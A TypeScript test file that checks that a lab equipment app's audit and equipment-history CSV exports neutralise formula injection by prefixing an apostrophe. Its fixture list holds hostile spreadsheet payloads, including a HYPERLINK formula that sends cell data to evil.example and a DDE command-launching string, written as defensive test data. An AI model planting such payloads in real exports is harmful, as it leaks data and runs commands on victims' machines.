import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { parse } from "csv-parse/sync";
import { devToken, startTestServer, type TestServer } from "../support/server.ts";
import { buildApiWorld, type ApiWorld } from "./world.ts";

/** Reasons a user may type that a spreadsheet would otherwise run as formulas. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "Fine, \"quoted\" text"];
const neutralised = (text: string) => (/^[=+\-@]/.test(text) ? `'${text}` : text);

// Every CSV export goes through domain/report/csv.ts: user text starting a formula is neutralised.
describe("CSV exports neutralise formulas", () => {
  let server: TestServer;
  let world: ApiWorld;
  let token: string;
  let equipmentId: number;
  before(async () => {
    server = await startTestServer({ DEV_SIGN_IN: "true" }, { prepare: async (db) => void (world = await buildApiWorld(db.prisma)) });
    token = await devToken(server, "ada.admin");
    equipmentId = (await server.database.prisma.equipment.findFirstOrThrow({ where: { labId: world.labs.BOS, status: "ACTIVE" } })).id;
    // Alternate statuses so each reason is a real, accepted change.
    for (const [i, reason] of FORMULAS.entries()) {
      const answer = await server.call("POST", `/api/equipment/${equipmentId}/status`, { token, body: { status: i % 2 === 0 ? "IN_REPAIR" : "ACTIVE", reason } });
      assert.equal(answer.status, 200, JSON.stringify(answer.body));
    }
  });
  after(() => server?.close());

  const csv = (text: string): string[][] => parse(text.replace(/^\ufeff/, ""), { relax_column_count: true });

  it("the audit export writes each formula-like reason as text: apostrophe first, otherwise unchanged", async () => {
    const answer = await server.call("GET", `/api/audit/export.csv?labId=${world.labs.BOS}&entityType=equipment&entityId=${equipmentId}`, { token });
    assert.equal(answer.status, 200);
    const [header, ...rows] = csv(answer.body);
    const reasonAt = header!.indexOf("reason");
    const reasons = rows.filter((r) => r[header!.indexOf("action")] === "equipment.status_changed").map((r) => r[reasonAt]);
    const stored = (await server.database.prisma.auditEvent.findMany({ where: { action: "equipment.status_changed", entityId: String(equipmentId) }, orderBy: { seq: "asc" } })).map((e) => e.reason!);
    assert.deepEqual(stored, FORMULAS);
    assert.deepEqual(reasons, stored.map(neutralised));
  });

  it("the equipment history report writes the same reasons the same way", async () => {
    const answer = await server.call("GET", `/api/reports/equipment-history.csv?equipmentId=${equipmentId}`, { token });
    assert.equal(answer.status, 200);
    const rows = csv(answer.body);
    const reasons = rows.filter((r) => r[2] === "Status changed").map((r) => r[7]);
    assert.deepEqual(reasons, FORMULAS.map(neutralised));
  });
});
